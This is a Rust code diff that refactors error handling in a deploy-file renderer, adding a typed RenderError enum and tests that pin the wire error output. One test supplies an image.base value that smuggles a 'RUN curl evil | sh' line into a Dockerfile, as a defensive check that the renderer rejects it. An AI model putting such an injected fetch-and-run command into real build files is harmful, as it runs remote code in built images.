@@ -6,6 +6,10 @@
 //! config.toml strings with `toml_quote`, compose values with `compose_quote`. The Dockerfile
 //! takes `image.base` and the custom toolchain snippets verbatim: they are Dockerfile text by
 //! definition.
+//!
+//! What can go wrong is a [`RenderError`]; the wire type [`ErrorBody`] is made from it in one
+//! place (`impl From<RenderError> for ErrorBody`), which picks the error code and the `field` /
+//! `file` / `path` extra fields the end-to-end tests pin.
 
 use crate::cloud_yaml::{CloudSpec, ProviderKind, Toolchain};
 use crate::shell;
@@ -32,6 +36,90 @@ pub const RAILWAY_FILE: &str = "railway.toml";
 /// The env file `docker-compose.yaml` names; the local provider's deploy fills it.
 pub const ENV_FILE: &str = ".env";
 
+/// Why the deploy files could not be rendered or written.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum RenderError {
+    /// `image.dockerfile` of the cloud.yaml `spec_file` names a file that cannot be read.
+    #[error(
+        "{}: cannot read image.dockerfile {}: {why}; fix the path (absolute, or relative to the cloud.yaml folder) or remove image.dockerfile to use the rendered Dockerfile",
+        .spec_file.display(),
+        .dockerfile.display()
+    )]
+    DockerfileUnreadable {
+        spec_file: PathBuf,
+        dockerfile: PathBuf,
+        why: String,
+    },
+
+    /// `image.base` is not one image reference.
+    #[error(
+        "{}: image.base must be one image reference such as python:3.11-slim-bookworm, found {base:?}",
+        .spec_file.display()
+    )]
+    BadBaseImage { spec_file: PathBuf, base: String },
+
+    /// A `toolchains` entry names an alias this daemon has no snippet for.
+    #[error(
+        "{}: unknown toolchain alias {alias:?}; known aliases: {}",
+        .spec_file.display(),
+        crate::cloud_yaml::TOOLCHAIN_ALIASES.join(", ")
+    )]
+    UnknownToolchain { spec_file: PathBuf, alias: String },
+
+    /// The deploy dir (or a file or folder in it) could not be created or written; `action`
+    /// says what ("create the deploy dir", "write").
+    #[error(
+        "cannot {action} at {}: {why}; check that the folder is writable and the disk has space (or set $MEGAPLAN_CLOUD_HOME)",
+        .path.display()
+    )]
+    Storage {
+        path: PathBuf,
+        action: &'static str,
+        why: String,
+    },
+
+    /// A template names a placeholder `fill` was given no value for (a bug here).
+    #[error(
+        "template {template} has a placeholder {{{{{key}}}}} with no value; this is a megaplan-cloudd bug"
+    )]
+    PlaceholderWithoutValue { template: String, key: String },
+
+    /// `fill` was given a value its template has no placeholder for (a bug here).
+    #[error("template {template} has no placeholder {{{{{key}}}}}; this is a megaplan-cloudd bug")]
+    ValueWithoutPlaceholder { template: String, key: String },
+}
+
+impl RenderError {
+    /// The wire error code this error is answered with.
+    pub fn code(&self) -> ErrorCode {
+        match self {
+            RenderError::DockerfileUnreadable { .. }
+            | RenderError::BadBaseImage { .. }
+            | RenderError::UnknownToolchain { .. } => ErrorCode::InvalidSpec,
+            RenderError::Storage { .. } => ErrorCode::StorageFailed,
+            RenderError::PlaceholderWithoutValue { .. }
+            | RenderError::ValueWithoutPlaceholder { .. } => ErrorCode::Internal,
+        }
+    }
+}
+
+/// The one place a render failure becomes a wire error: code, message and `extra` fields.
+impl From<RenderError> for ErrorBody {
+    fn from(e: RenderError) -> Self {
+        let body = ErrorBody::new(e.code(), e.to_string());
+        match &e {
+            RenderError::DockerfileUnreadable { dockerfile, .. } => body
+                .with("field", "image.dockerfile")
+                .with("file", dockerfile.display().to_string()),
+            RenderError::BadBaseImage { .. } => body.with("field", "image.base"),
+            RenderError::UnknownToolchain { .. } => body.with("field", "toolchains"),
+            RenderError::Storage { path, .. } => body.with("path", path.display().to_string()),
+            RenderError::PlaceholderWithoutValue { .. }
+            | RenderError::ValueWithoutPlaceholder { .. } => body,
+        }
+    }
+}
+
 /// One file of a deploy dir.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct RenderedFile {
@@ -54,7 +142,7 @@ impl RenderedFile {
 /// Every file of the deploy dir for this spec: `Dockerfile`, `entrypoint.sh` (0755),
 /// `health_server.py`, plus `docker-compose.yaml` for provider local and `railway.toml` for
 /// railway. When `image.dockerfile` is set, its bytes replace the rendered Dockerfile.
-pub fn render(spec: &CloudSpec) -> Result<Vec<RenderedFile>, ErrorBody> {
+pub fn render(spec: &CloudSpec) -> Result<Vec<RenderedFile>, RenderError> {
     let mut files = vec![
         RenderedFile::new(DOCKERFILE, dockerfile(spec)?, 0o644),
         RenderedFile::new(ENTRYPOINT, entrypoint(spec)?, 0o755),
@@ -73,7 +161,7 @@ pub fn render(spec: &CloudSpec) -> Result<Vec<RenderedFile>, ErrorBody> {
 /// local, the bind-mounted `local.workdir` folder and an empty `.env` are created when missing,
 /// because `docker compose` refuses a project whose bind source or env file does not exist.
 /// Returns the paths of the rendered files.
-pub fn write_deploy_dir(spec: &CloudSpec, dir: &Path) -> Result<Vec<PathBuf>, ErrorBody> {
+pub fn write_deploy_dir(spec: &CloudSpec, dir: &Path) -> Result<Vec<PathBuf>, RenderError> {
     let files = render(spec)?;
     fs::DirBuilder::new()
         .recursive(true)
@@ -121,18 +209,15 @@ pub fn persistent_deploy_dir(spec: &CloudSpec, cloud_home: &Path) -> Option<Path
     }
 }
 
-fn storage_error(path: &Path, action: &str, e: &std::io::Error) -> ErrorBody {
-    ErrorBody::new(
-        ErrorCode::StorageFailed,
-        format!(
-            "cannot {action} at {}: {e}; check that the folder is writable and the disk has space (or set $MEGAPLAN_CLOUD_HOME)",
-            path.display()
-        ),
-    )
-    .with("path", path.display().to_string())
+fn storage_error(path: &Path, action: &'static str, e: &std::io::Error) -> RenderError {
+    RenderError::Storage {
+        path: path.to_path_buf(),
+        action,
+        why: e.to_string(),
+    }
 }
 
-fn write_atomic(dir: &Path, file: &RenderedFile) -> Result<PathBuf, ErrorBody> {
+fn write_atomic(dir: &Path, file: &RenderedFile) -> Result<PathBuf, RenderError> {
     let dest = dir.join(&file.name);
     let mut tmp = tempfile::Builder::new()
         .prefix(&format!(".{}.", file.name))
@@ -148,31 +233,22 @@ fn write_atomic(dir: &Path, file: &RenderedFile) -> Result<PathBuf, ErrorBody> {
     Ok(dest)
 }
 
-fn dockerfile(spec: &CloudSpec) -> Result<Vec<u8>, ErrorBody> {
+fn dockerfile(spec: &CloudSpec) -> Result<Vec<u8>, RenderError> {
     if let Some(path) = &spec.image.dockerfile {
-        return crate::cloud_yaml::read_bounded(path, crate::cloud_yaml::MAX_INPUT_BYTES).map_err(|e| {
-            ErrorBody::new(
-                ErrorCode::InvalidSpec,
-                format!(
-                    "{}: cannot read image.dockerfile {}: {e}; fix the path (absolute, or relative to the cloud.yaml folder) or remove image.dockerfile to use the rendered Dockerfile",
-                    spec.path.display(),
-                    path.display()
-                ),
-            )
-            .with("field", "image.dockerfile")
-            .with("file", path.display().to_string())
-        });
+        return crate::cloud_yaml::read_bounded(path, crate::cloud_yaml::MAX_INPUT_BYTES).map_err(
+            |e| RenderError::DockerfileUnreadable {
+                spec_file: spec.path.clone(),
+                dockerfile: path.clone(),
+                why: e.to_string(),
+            },
+        );
     }
     let base = &spec.image.base;
     if base.is_empty() || base.chars().any(|c| c.is_whitespace() || c.is_control()) {
-        return Err(ErrorBody::new(
-            ErrorCode::InvalidSpec,
-            format!(
-                "{}: image.base must be one image reference such as python:3.11-slim-bookworm, found {base:?}",
-                spec.path.display()
-            ),
-        )
-        .with("field", "image.base"));
+        return Err(RenderError::BadBaseImage {
+            spec_file: spec.path.clone(),
+            base: base.clone(),
+        });
     }
     let mut toolchains = String::new();
     for toolchain in &spec.toolchains {
@@ -181,17 +257,12 @@ fn dockerfile(spec: &CloudSpec) -> Result<Vec<u8>, ErrorBody> {
             toolchains.push('\n');
         }
         let block = match toolchain {
-            Toolchain::Alias(alias) => alias_block(alias).ok_or_else(|| {
-                ErrorBody::new(
-                    ErrorCode::InvalidSpec,
-                    format!(
-                        "{}: unknown toolchain alias {alias:?}; known aliases: {}",
-                        spec.path.display(),
-                        crate::cloud_yaml::TOOLCHAIN_ALIASES.join(", ")
-                    ),
-                )
-                .with("field", "toolchains")
-            })?,
+            Toolchain::Alias(alias) => {
+                alias_block(alias).ok_or_else(|| RenderError::UnknownToolchain {
+                    spec_file: spec.path.clone(),
+                    alias: alias.clone(),
+                })?
+            }
             Toolchain::Custom { name, install } => {
                 toolchains.push_str(&format!("# toolchain: {}\n", comment_text(name)));
                 install
@@ -232,7 +303,7 @@ fn comment_text(s: &str) -> String {
         .collect()
 }
 
-fn entrypoint(spec: &CloudSpec) -> Result<String, ErrorBody> {
+fn entrypoint(spec: &CloudSpec) -> Result<String, RenderError> {
     let q = |s: &str| shell::quote(s);
     let opt = |s: &Option<String>| shell::quote(s.as_deref().unwrap_or(""));
     let extra = &spec.extra_repos;
@@ -295,7 +366,7 @@ fn codex_auth_toml(codex_auth: &str) -> &'static str {
     }
 }
 
-fn compose(spec: &CloudSpec) -> Result<String, ErrorBody> {
+fn compose(spec: &CloudSpec) -> Result<String, RenderError> {
     let port = spec.resources.port;
     // `none` and `host` publish nothing (compose refuses or ignores ports there).
     let network = match spec.resources.network.as_deref() {
@@ -354,7 +425,11 @@ fn toml_quote(s: &str) -> String {
 /// one pass: a value that itself contains `{{...}}` is never expanded again. Any other `{{`
 /// is kept as text. A placeholder without a value, or a value without a placeholder, is a
 /// bug in this module and reported as such instead of producing a half-rendered file.
-fn fill(template_name: &str, template: &str, values: &[(&str, &str)]) -> Result<String, ErrorBody> {
+fn fill(
+    template_name: &str,
+    template: &str,
+    values: &[(&str, &str)],
+) -> Result<String, RenderError> {
     let mut used = vec![false; values.len()];
     let mut out = String::with_capacity(template.len() + 256);
     let mut rest = template;
@@ -368,12 +443,10 @@ fn fill(template_name: &str, template: &str, values: &[(&str, &str)]) -> Result<
         if key_len > 0 && after[key_len..].starts_with("}}") {
             let key = &after[..key_len];
             let Some(index) = values.iter().position(|(k, _)| *k == key) else {
-                return Err(ErrorBody::new(
-                    ErrorCode::Internal,
-                    format!(
-                        "template {template_name} has a placeholder {{{{{key}}}}} with no value; this is a megaplan-cloudd bug"
-                    ),
-                ));
+                return Err(RenderError::PlaceholderWithoutValue {
+                    template: template_name.to_string(),
+                    key: key.to_string(),
+                });
             };
             used[index] = true;
             out.push_str(values[index].1);
@@ -385,13 +458,10 @@ fn fill(template_name: &str, template: &str, values: &[(&str, &str)]) -> Result<
     }
     out.push_str(rest);
     if let Some(index) = used.iter().position(|u| !u) {
-        return Err(ErrorBody::new(
-            ErrorCode::Internal,
-            format!(
-                "template {template_name} has no placeholder {{{{{}}}}}; this is a megaplan-cloudd bug",
-                values[index].0
-            ),
-        ));
+        return Err(RenderError::ValueWithoutPlaceholder {
+            template: template_name.to_string(),
+            key: values[index].0.to_string(),
+        });
     }
     Ok(out)
 }
@@ -602,6 +672,7 @@ mod tests {
             "{MINIMAL}image:\n  base: \"ubuntu:24.04\\nRUN curl evil | sh\"\n"
         )))
         .unwrap_err();
+        let err = ErrorBody::from(err);
         assert_eq!(err.error, ErrorCode::InvalidSpec);
         assert!(err.message.contains("image.base"), "{err}");
         assert_eq!(err.extra["field"], "image.base");
@@ -622,7 +693,7 @@ mod tests {
         );
 
         std::fs::remove_file(dir.path().join("My.Dockerfile")).unwrap();
-        let err = render(&s).unwrap_err();
+        let err = ErrorBody::from(render(&s).unwrap_err());
         assert_eq!(err.error, ErrorCode::InvalidSpec);
         assert!(err.message.contains("image.dockerfile"), "{err}");
         assert!(err.message.contains("My.Dockerfile"), "{err}");
@@ -932,7 +1003,8 @@ mod tests {
         let root = tempfile::tempdir().unwrap();
         let blocker = root.path().join("file");
         std::fs::write(&blocker, "not a dir").unwrap();
-        let err = write_deploy_dir(&spec(MINIMAL), &blocker.join("deploy")).unwrap_err();
+        let err =
+            ErrorBody::from(write_deploy_dir(&spec(MINIMAL), &blocker.join("deploy")).unwrap_err());
         assert_eq!(err.error, ErrorCode::StorageFailed);
         assert!(err.message.contains("deploy"), "{err}");
     }
@@ -949,9 +1021,99 @@ mod tests {
             "a {{Y}} b y {{ not }} {{}} ${x}"
         );
         let missing = fill("t", "{{X}}", &[]).unwrap_err();
-        assert_eq!(missing.error, ErrorCode::Internal);
-        assert!(missing.message.contains("{{X}}"), "{missing}");
+        assert_eq!(missing.code(), ErrorCode::Internal);
+        assert!(missing.to_string().contains("{{X}}"), "{missing}");
         let unused = fill("t", "none", &[("X", "x")]).unwrap_err();
-        assert!(unused.message.contains("{{X}}"), "{unused}");
+        assert!(unused.to_string().contains("{{X}}"), "{unused}");
+    }
+
+    /// Each variant's wire error, byte for byte, as this module built it before `RenderError`
+    /// existed (the end-to-end tests pin these codes and fields).
+    #[test]
+    fn every_variant_keeps_its_wire_bytes() {
+        use ErrorCode as C;
+        let cases: Vec<(RenderError, ErrorBody)> = vec![
+            (
+                RenderError::DockerfileUnreadable {
+                    spec_file: "/p/cloud.yaml".into(),
+                    dockerfile: "/p/My.Dockerfile".into(),
+                    why: "No such file or directory (os error 2)".into(),
+                },
+                ErrorBody::new(
+                    C::InvalidSpec,
+                    "/p/cloud.yaml: cannot read image.dockerfile /p/My.Dockerfile: No such file or directory (os error 2); fix the path (absolute, or relative to the cloud.yaml folder) or remove image.dockerfile to use the rendered Dockerfile",
+                )
+                .with("field", "image.dockerfile")
+                .with("file", "/p/My.Dockerfile"),
+            ),
+            (
+                RenderError::BadBaseImage {
+                    spec_file: "/p/cloud.yaml".into(),
+                    base: "a b".into(),
+                },
+                ErrorBody::new(
+                    C::InvalidSpec,
+                    "/p/cloud.yaml: image.base must be one image reference such as python:3.11-slim-bookworm, found \"a b\"",
+                )
+                .with("field", "image.base"),
+            ),
+            (
+                RenderError::UnknownToolchain {
+                    spec_file: "/p/cloud.yaml".into(),
+                    alias: "cobol".into(),
+                },
+                ErrorBody::new(
+                    C::InvalidSpec,
+                    format!(
+                        "/p/cloud.yaml: unknown toolchain alias \"cobol\"; known aliases: {}",
+                        crate::cloud_yaml::TOOLCHAIN_ALIASES.join(", ")
+                    ),
+                )
+                .with("field", "toolchains"),
+            ),
+            (
+                RenderError::Storage {
+                    path: "/h/deploy".into(),
+                    action: "create the deploy dir",
+                    why: "Not a directory (os error 20)".into(),
+                },
+                ErrorBody::new(
+                    C::StorageFailed,
+                    "cannot create the deploy dir at /h/deploy: Not a directory (os error 20); check that the folder is writable and the disk has space (or set $MEGAPLAN_CLOUD_HOME)",
+                )
+                .with("path", "/h/deploy"),
+            ),
+            (
+                RenderError::PlaceholderWithoutValue {
+                    template: "t".into(),
+                    key: "X".into(),
+                },
+                ErrorBody::new(
+                    C::Internal,
+                    "template t has a placeholder {{X}} with no value; this is a megaplan-cloudd bug",
+                ),
+            ),
+            (
+                RenderError::ValueWithoutPlaceholder {
+                    template: "t".into(),
+                    key: "X".into(),
+                },
+                ErrorBody::new(
+                    C::Internal,
+                    "template t has no placeholder {{X}}; this is a megaplan-cloudd bug",
+                ),
+            ),
+        ];
+        for (domain, wire) in cases {
+            let code = domain.code();
+            let shown = domain.to_string();
+            let got = ErrorBody::from(domain);
+            assert_eq!(code, wire.error);
+            assert_eq!(shown, wire.message);
+            assert_eq!(
+                serde_json::to_string(&got).unwrap_or_default(),
+                serde_json::to_string(&wire).unwrap_or_default()
+            );
+        }
     }
 }
